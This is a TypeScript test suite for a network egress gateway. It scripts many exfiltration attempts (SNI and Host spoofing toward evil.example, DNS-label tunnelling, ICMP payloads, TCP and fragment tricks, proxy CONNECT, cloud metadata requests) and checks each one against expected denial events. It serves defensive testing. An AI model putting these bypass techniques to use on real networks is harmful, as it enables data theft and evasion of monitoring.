/**
 * The ways out that a job may try over the network, each with a marker to look for at the far end and what the record must
 * say. One list, used twice: in enforce mode nothing arrives, and in monitor mode everything does, which proves that each
 * attempt really is one.
 */
import type { Lab } from "../lab/lab.ts";
import type { Outcome } from "../lab/process.ts";
import type { ExecOptions } from "../lab/machine.ts";
import { flags, fragments, ip, protocols, send, tcp } from "./tcp/raw.ts";
import type { Expected } from "../gateway/start.ts";

export type Attempt = {
  /** What is tried, after the threat it belongs to. */
  title: string;
  /** Tries to get the marker out. */
  run: (marker: string) => Promise<unknown>;
  /** The denial's event, without its verdict. */
  event: Expected | ((marker: string) => Expected);
  /** False where the marker gets nowhere even with nobody in the way: the address is the gateway's, or no server reads it. */
  reaches?: false;
  /** False where monitor mode does not foretell the denial: it reads the first bytes of a connection, not the rest. */
  foretold?: false;
};

/** Names that are allowed stand at addresses that others share; `mode` is the default's. */
export function attemptsPolicy(mode: "enforce" | "monitor"): string {
  return `version: 1
rules:
  - { name: web, to: [allowed.example, private.example, metadata.example, mapped.example, "*.wild.example"] }
  - { name: plain web, to: [plain.example], ports: [80] }
  - { name: mail, to: ["allowed.example:2525"], protocol: tls }
  - { name: proxy, to: ["proxy.example:3128"], protocol: http }
  - { name: datagrams, to: ["udp.example:9100"], protocol: udp }
default: { mode: ${mode} }
`;
}

/** Opens what the attempts need besides the lab's own servers. */
export async function prepare(lab: Lab): Promise<void> {
  await lab.internet.listen({ kind: "banner", port: 2525 });
  for (const address of ["203.0.113.66", "2001:db8:200::66"]) {
    await lab.internet.listen({ kind: "udp-echo", port: 443, address });
  }
}

/** Every attempt that has a form in this family. */
export function attempts(lab: Lab, v: 4 | 6): Attempt[] {
  const runner = lab.runner(1);
  const dot = (n: number): string => (v === 4 ? `203.0.113.${n}` : `2001:db8:200::${n}`);
  const host = (address: string): string => (address.includes(":") ? `[${address}]` : address);
  const inside = lab.inside(1);
  const source = v === 4 ? inside.runner.v4 : inside.runner.v6;
  const gateway = v === 4 ? inside.gateway.v4 : inside.gateway.v6;
  const beyond = v === 4 ? lab.outside.gateway.v4 : lab.outside.gateway.v6;
  const type = v === 4 ? "A" : "AAAA";
  const run = (command: string, args: string[], options: ExecOptions = {}): Promise<Outcome> =>
    runner.exec(command, args, { timeoutMs: 8_000, ...options });
  const curl = (...args: string[]): Promise<Outcome> => run("curl", ["-sSk", "--max-time", "6", ...args]);
  const dig = (...args: string[]): Promise<Outcome> => run("dig", ["+tries=1", "+time=3", "+short", ...args]);
  /** Makes the resolver hand out the name's address, as for any client that may use it. */
  const resolve = (name: string): Promise<Outcome> => dig(name, type);
  const tls = async (target: string, args: string[], line: string): Promise<Outcome> =>
    run("openssl", ["s_client", "-quiet", "-connect", target, ...args], { input: `${line}\r\n\r\n`, timeoutMs: 3_000 });
  const datagram = (address: string, port: number, text: string): Promise<Outcome> =>
    run("ncat", ["-u", "--send-only", "-w", "1", address, String(port)], { input: text });
  const stream = (address: string, port: number, text: string): Promise<Outcome> =>
    run("ncat", ["-w", "1", address, String(port)], { input: text });
  /** Sends a script's lines one after the other on one connection, each when the server answered the one before. */
  const dialogue = (address: string, port: number, lines: string[]): Promise<Outcome> =>
    run(process.execPath, ["-e", dialogueScript, address, String(port), ...lines]);
  const port = (): number => 20_000 + Math.floor(Math.random() * 10_000);
  const raw = (destination: string, protocol: number, payload: Uint8Array): void =>
    send(runner, destination, ip(source, destination, protocol, payload));
  const segment = (destination: string, destinationPort: number, bits: number, text: string): Buffer => {
    const sourcePort = port();
    const payload = Buffer.from(text);
    return tcp({ source, destination, sourcePort, destinationPort, flags: bits, ack: 7, payload });
  };
  const refused = (reason: string, destination: object, stage = "connect"): Expected => ({
    kind: "connection",
    reason,
    stage,
    rule: { name: null, tier: 3 },
    destination,
  });
  const query = (reason: string, destination: object, dns: object = {}): Expected => ({
    kind: "dns",
    reason,
    stage: "dns",
    rule: { name: null, tier: 3 },
    destination: { protocol: "dns", ...destination },
    dns,
  });

  const names: Attempt[] = [
    {
      title: "N1: an allowed name's SNI at the attacker's address",
      run: (marker) => tls(`${host(dot(66))}:443`, ["-servername", "allowed.example"], marker),
      event: refused("no_name", { ip: dot(66), port: 443 }),
    },
    {
      title: "N1: the same once the attacker's address has a name of its own",
      run: async (marker) => {
        await resolve("evil.example");
        await tls(`${host(dot(66))}:443`, ["-servername", "allowed.example"], marker);
      },
      event: { kind: "connection", rule: { name: null, tier: 3 }, destination: { ip: dot(66), port: 443 } },
    },
    {
      title: "N2: the attacker's SNI at an address shared with an allowed name",
      run: async (marker) => {
        await resolve("allowed.example");
        await curl("--connect-to", `::${host(dot(10))}:443`, `https://evil.example/${marker}`);
      },
      event: refused("default", { name: "evil.example", name_from: "sni", ip: dot(10), port: 443 }, "name"),
    },
    {
      title: "N3: data in the SNI itself",
      run: async (marker) => {
        await resolve("allowed.example");
        await curl("--connect-to", `::${host(dot(10))}:443`, `https://${marker}.evil.example/`);
      },
      event: (marker) => refused("default", { name: `${marker.toLowerCase()}.evil.example`, ip: dot(10) }, "name"),
    },
    {
      title: "N4: a second request with another Host on a kept-alive connection",
      run: async (marker) => {
        await resolve("plain.example");
        const first = "GET / HTTP/1.1\r\nHost: plain.example\r\n\r\n";
        await dialogue(dot(80), 80, [first, `GET /${marker} HTTP/1.1\r\nHost: evil.example\r\n\r\n`]);
      },
      event: refused("host_changed", { name: "evil.example", name_from: "host", ip: dot(80), port: 80 }, "name"),
      foretold: false,
    },
    {
      title: "N4: the same with both requests in one segment",
      run: async (marker) => {
        await resolve("plain.example");
        const two = `GET / HTTP/1.1\r\nHost: plain.example\r\n\r\nGET /${marker} HTTP/1.1\r\nHost: evil.example\r\n\r\n`;
        await dialogue(dot(80), 80, [two]);
      },
      event: refused("default", { name: "evil.example", ip: dot(80), port: 80 }, "name"),
      foretold: false,
    },
    {
      title: "N4: the attacker's Host at an allowed name's address",
      run: async (marker) => {
        await resolve("plain.example");
        await curl("-H", "Host: evil.example", `http://${host(dot(80))}/${marker}`);
      },
      event: refused("default", { name: "evil.example", name_from: "host", ip: dot(80), port: 80 }, "name"),
    },
    {
      title: "N5: no SNI",
      run: async (marker) => {
        await resolve("allowed.example");
        await tls(`${host(dot(10))}:443`, ["-noservername"], marker);
      },
      event: refused("missing_name", { ip: dot(10), port: 443, protocol: "tls" }, "name"),
    },
    {
      title: "N5: an IP literal as SNI",
      run: async (marker) => {
        await resolve("allowed.example");
        await tls(`${host(dot(10))}:443`, ["-servername", "203.0.113.10"], marker);
      },
      event: refused("invalid_name", { ip: dot(10), port: 443, protocol: "tls" }, "name"),
    },
    {
      title: "N5: an allowed name with the attacker's domain behind it, or text before it",
      run: async (marker) => {
        await resolve("allowed.example");
        for (const name of ["allowed.example.evil.example", "evilallowed.example"]) {
          await tls(`${host(dot(10))}:443`, ["-servername", name], marker);
        }
      },
      event: refused("default", { name: "evilallowed.example", ip: dot(10) }, "name"),
    },
    {
      title: "N6: a denied hello in eight segments",
      run: async (marker) => {
        await resolve("allowed.example");
        await dribble(lab, dot(10), "evil.example", marker, 8);
      },
      event: refused("default", { name: "evil.example", ip: dot(10), port: 443 }, "name"),
    },
    {
      title: "N7: plain text on a TLS port",
      run: async (marker) => {
        await resolve("allowed.example");
        await stream(dot(10), 443, `${marker.toLowerCase()}\n`);
      },
      event: refused("not_protocol", { ip: dot(10), port: 443 }, "name"),
    },
    {
      title: "N7: plain text that could be the start of a request",
      run: async (marker) => {
        await resolve("allowed.example");
        await stream(dot(10), 443, marker);
      },
      event: refused("closed", { ip: dot(10), port: 443 }, "name"),
    },
    {
      title: "N7: a plain HTTP request on a TLS port, with the allowed Host",
      run: async (marker) => {
        await resolve("allowed.example");
        await curl("-H", "Host: allowed.example", `http://${host(dot(10))}:443/${marker}`);
      },
      event: refused("not_protocol", { ip: dot(10), port: 443, protocol: "http" }, "name"),
    },
    {
      title: "N7: a protocol whose server speaks first, on a port with a tls rule",
      run: async (marker) => {
        await resolve("allowed.example");
        await dialogue(dot(10), 2525, ["", `helo ${marker}\r\n`]);
      },
      event: refused("not_protocol", { ip: dot(10), port: 2525 }, "name"),
    },
    {
      title: "N9: QUIC, and any datagram, to an allowed name without a quic rule",
      run: async (marker) => {
        await resolve("allowed.example");
        await datagram(dot(10), 443, marker);
      },
      event: refused("default", { name: "allowed.example", ip: dot(10), port: 443, protocol: "udp" }),
    },
    {
      title: "T12: CONNECT through a proxy that is allowed for http",
      run: async (marker) => {
        await resolve("proxy.example");
        await curl("-x", `http://${host(dot(31))}:3128`, `https://evil.example/${marker}`);
      },
      event: refused("default", { name: "evil.example", name_from: "host", ip: dot(31), port: 3128 }, "name"),
    },
    {
      title: "T12: a request for another host through that proxy",
      run: async (marker) => {
        await resolve("proxy.example");
        await curl("-x", `http://${host(dot(31))}:3128`, `http://evil.example/${marker}`);
      },
      event: refused("default", { name: "evil.example", name_from: "host", ip: dot(31), port: 3128 }, "name"),
    },
  ];

  const resolver = v === 4 ? "203.0.113.53" : "2001:db8:200::53";
  const other = v === 4 ? "203.0.113.54" : "2001:db8:200::54";
  const dns: Attempt[] = [
    {
      title: "D1: data in the labels of a name nobody allowed",
      run: (marker) => dig(`@${resolver}`, `${marker}.evil.example`, type),
      event: (marker) =>
        query("default", { name: `${marker.toLowerCase()}.evil.example`, ip: resolver }, { qtype: type }),
    },
    {
      title: "D1: spread over labels, as TXT",
      run: (marker) => dig(`@${resolver}`, `${marker.slice(0, 8)}.${marker.slice(8)}.x.evil.example`, "TXT"),
      event: query("default", { name: /\.x\.evil\.example$/ }, { qtype: "TXT" }),
    },
    ...["NULL", "MX", "CNAME", "ANY", "SRV"].map((qtype) => ({
      title: `D1: as ${qtype}`,
      run: (marker: string) => dig(`@${resolver}`, `${marker}.evil.example`, qtype),
      event: { kind: "dns", rule: { name: null }, destination: { name: /\.evil\.example$/ }, dns: { qtype } },
    })),
    {
      title: "D2: a reverse lookup of a name made up for it",
      run: (marker) => dig(`@${resolver}`, `${marker}.in-addr.arpa`, "PTR"),
      event: query("query_type", { name: /\.in-addr\.arpa$/ }, { qtype: "PTR" }),
    },
    {
      title: "D3: over TCP",
      run: (marker) => dig(`@${resolver}`, "+tcp", `${marker}.evil.example`, type),
      event: (marker) => query("default", { name: `${marker.toLowerCase()}.evil.example` }, { qtype: type }),
    },
    {
      title: "D4: asked of another resolver",
      run: (marker) => dig(`@${other}`, `${marker}.evil.example`, type),
      event: query("default", { name: /\.evil\.example$/, ip: other, port: 53 }, { server: `${host(other)}:53` }),
    },
    {
      title: "D4: asked of another resolver over TCP",
      run: (marker) => dig(`@${other}`, "+tcp", `${marker}.evil.example`, type),
      event: query("default", { name: /\.evil\.example$/, ip: other, port: 53 }),
    },
    {
      title: "D4: DNS over TLS",
      run: (marker) => tls(`${host(other)}:853`, [], marker),
      event: refused("no_name", { ip: other, port: 853 }),
      reaches: false,
    },
    {
      title: "D4: DNS over HTTPS to a resolver by its address",
      run: (marker) =>
        curl("--doh-insecure", "--doh-url", `https://${host(other)}/dns-query`, `https://${marker}.evil.example/`),
      event: refused("no_name", { ip: other, port: 443 }),
    },
    {
      title: "D6: an allowed name that resolves to a private address",
      run: async (marker) => {
        await resolve("private.example");
        const address = v === 4 ? "10.0.0.5" : "fd00::5";
        await curl("--connect-to", `::${host(address)}:443`, `https://private.example/${marker}`);
      },
      event: refused("private_address", { ip: v === 4 ? "10.0.0.5" : "fd00::5", port: 443 }),
    },
  ];

  const metadata = v === 4 ? ["169.254.169.254", "169.254.170.2", "168.63.129.16"] : ["fd00:ec2::254"];
  const transport: Attempt[] = [
    ...[80, 443, 22, 8080].map((port) => ({
      title: `T1: an address without a name, port ${port}`,
      run: (marker: string) => stream(dot(66), port, `GET /${marker} HTTP/1.0\r\n\r\n`),
      event: refused("no_name", { ip: dot(66), port, protocol: "tcp" }),
    })),
    ...[9100, 443, 123, 5353].map((port) => ({
      title: `T3: a datagram to port ${port}`,
      run: (marker: string) => datagram(dot(66), port, marker),
      event: refused("no_name", { ip: dot(66), port, protocol: "udp" }),
    })),
    {
      title: "T4: an ICMP echo with a payload",
      run: (marker) => run("ping", [`-${v}`, "-c1", "-W1", "-p", Buffer.from(marker).toString("hex"), dot(66)]),
      event: refused("protocol_denied", { ip: dot(66), protocol: "icmp" }),
    },
    ...(["gre", "esp", "sctp", "experiment"] as const).map((name) => ({
      title: `T5: IP protocol ${protocols[name]}`,
      run: async (marker: string) => raw(dot(66), protocols[name], Buffer.from(`\0\0\0\0${marker}\0\0\0\0`)),
      // The kernel knows SCTP, and that this is none.
      event: refused(name === "sctp" ? "invalid_packet" : "protocol_denied", { ip: dot(66), protocol: "other" }),
    })),
    {
      title: "T6: a datagram in fragments, the marker in the last",
      run: (marker) =>
        run("ncat", ["-u", "--send-only", "-w", "1", dot(66), "9100"], { input: "x".repeat(3_500) + marker }),
      event: refused("no_name", { ip: dot(66), port: 9100, protocol: "udp" }),
    },
    {
      title: "T7: a SYN with data",
      run: async (marker) => {
        await resolve("allowed.example");
        const bytes = segment(dot(10), 443, flags.syn, marker.toLowerCase());
        send(runner, dot(10), ip(source, dot(10), protocols.tcp, bytes));
      },
      event: refused("syn_data", { ip: dot(10), port: 443 }),
    },
    {
      title: "T7: data in the middle of a connection that never began",
      run: async (marker) => {
        await resolve("allowed.example");
        const bytes = segment(dot(10), 443, flags.psh | flags.ack, marker);
        send(runner, dot(10), ip(source, dot(10), protocols.tcp, bytes));
      },
      event: refused("mid_stream", { ip: dot(10), port: 443, protocol: "tcp" }),
    },
    {
      title: "T7: data in a reset",
      run: async (marker) => {
        await resolve("allowed.example");
        const bytes = segment(dot(10), 443, flags.rst | flags.ack, marker);
        send(runner, dot(10), ip(source, dot(10), protocols.tcp, bytes));
      },
      event: refused("mid_stream", { ip: dot(10), port: 443, protocol: "tcp" }),
    },
    ...[gateway, beyond].flatMap((address) =>
      [22, 443, 15_053].map((port) => ({
        title: `T11: the gateway's own ${address}, port ${port}`,
        run: (marker: string) => stream(address, port, marker),
        event: refused("private_address", { ip: address, port }),
        reaches: false as const,
      })),
    ),
    {
      title: "T11: the DNS firewall's own port, without being asked as DNS",
      run: (marker) => dig(`@${gateway}`, "-p", "15053", `${marker}.evil.example`),
      event: refused("private_address", { ip: gateway, port: 15_053, protocol: "udp" }),
      reaches: false,
    },
    ...metadata.map((address) => ({
      title: `T11: the metadata service at ${address}`,
      run: (marker: string) => curl(`http://${host(address)}/${marker}`),
      event: refused("private_address", { ip: address, port: 80 }),
    })),
  ];

  const onlyV4: Attempt[] = [
    {
      title: "T6: a SYN with data, cut into fragments inside its header",
      run: async (marker) => {
        const whole = ip(source, dot(66), protocols.tcp, segment(dot(66), 443, flags.syn, marker));
        send(runner, dot(66), ...fragments(whole, 16));
      },
      event: refused("no_name", { ip: dot(66), port: 443, protocol: "tcp" }),
    },
    {
      title: `T3: a broadcast`,
      run: async (marker) => {
        const address = "10.20.1.255";
        await run("socat", ["-u", "-", `UDP4-DATAGRAM:${address}:9100,broadcast`], { input: marker });
      },
      event: { kind: "connection", destination: { ip: "10.20.1.255", port: 9100 } },
      reaches: false,
    },
  ];
  const embedded = { NAT64: "64:ff9b::a00:5", "6to4": "2002:cb00:7142::1", Teredo: "2001:0:cb00:7142::1" };
  const onlyV6: Attempt[] = [
    ...Object.entries(embedded).map(([form, address]) => ({
      title: `T2: IPv4 inside IPv6, ${form}`,
      run: (marker: string) => curl(`http://[${address}]/${marker}`),
      event: refused("private_address", { ip: address, port: 80 }),
    })),
    {
      title: "T2: data behind a destination options header, which a server may discard and we would not",
      run: async (marker) => {
        await resolve("allowed.example");
        // Next header TCP, 8 bytes in all, one option of an experimental type that is skipped (RFC 4727).
        const options = Buffer.of(protocols.tcp, 0, 0x1e, 4, 0, 0, 0, 0);
        raw(dot(10), 60, Buffer.concat([options, segment(dot(10), 443, flags.syn, marker.toLowerCase())]));
      },
      event: refused("syn_data", { ip: dot(10), port: 443 }),
    },
  ];
  return [...names, ...dns, ...transport, ...(v === 4 ? onlyV4 : onlyV6)];
}

const dialogueScript = `
const [, address, port, ...lines] = process.argv;
const socket = require("net").connect({ host: address, port: Number(port) });
const next = () => { const line = lines.shift(); if (line) socket.write(line); return line; };
socket.on("connect", next).on("data", () => { if (lines.length === 0) socket.destroy(); else next(); });
socket.on("error", () => {}).setTimeout(1500, () => socket.destroy());`;

/** A TLS client whose hello leaves in pieces, each in a segment of its own. */
const dribbleScript = `
const { connect } = require("net");
const { Duplex } = require("stream");
const [, address, name, marker, pieces] = process.argv;
const socket = connect({ host: address, port: 443, noDelay: true });
let first = true;
const slow = new Duplex({
  read() {},
  write(chunk, _, done) {
    if (!first) return void socket.write(chunk, done);
    first = false;
    const size = Math.max(1, Math.ceil(chunk.length / pieces));
    let at = 0;
    const step = () =>
      at >= chunk.length ? done() : socket.write(chunk.subarray(at, (at += size)), () => setImmediate(step));
    step();
  },
});
socket.on("data", (chunk) => slow.push(chunk)).on("close", () => process.exit()).on("error", () => process.exit(1));
socket.on("connect", () => {
  const tls = require("tls").connect({ socket: slow, servername: name, rejectUnauthorized: false }, () => {
    tls.write("GET /" + marker + " HTTP/1.1\\r\\nHost: " + name + "\\r\\nConnection: close\\r\\n\\r\\n");
  });
  tls.on("error", () => {}).on("data", (data) => process.stdout.write(data)).on("end", () => process.exit());
});`;

/**
 * Runs the client above against port 443; what the server answered is its output. More pieces than bytes is one byte a
 * segment.
 */
export function dribble(lab: Lab, address: string, name: string, marker: string, pieces: number): Promise<Outcome> {
  return lab.runner(1).exec(process.execPath, ["-e", dribbleScript, address, name, marker, String(pieces)]);
}
